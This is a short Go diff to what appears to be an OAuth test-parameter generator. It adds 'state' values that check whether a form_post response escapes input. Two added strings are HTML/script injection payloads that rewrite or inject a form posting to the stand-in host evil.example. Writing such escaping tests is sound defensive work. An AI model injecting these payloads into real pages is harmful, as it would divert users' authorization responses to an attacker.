@@ -363,7 +363,10 @@ func (g *SysGen) randParams(c *ClientSpec) Params {
 	p.Scopes = g.randScopes(c)
 	p.Resources = g.randAuthResources()
 	if g.R.Intn(4) != 0 {
-		p.State = pick(g.R, []string{"st-1", "st-2", "s t&x=1"})
+		p.State = pick(g.R, []string{"st-1", "st-2", "s t&x=1", "st-3",
+			// values a browser would read as markup if the form_post document did not escape them
+			`x"/></form><script>document.forms[0].action="https://evil.example/cb"</script>`,
+			`'"><form action=https://evil.example/cb><b>`, "a&amp;b<i>+%3C"})
 	}
 	if g.R.Intn(3) != 0 {
 		p.Nonce = pick(g.R, []string{"n-1", "n-2"})
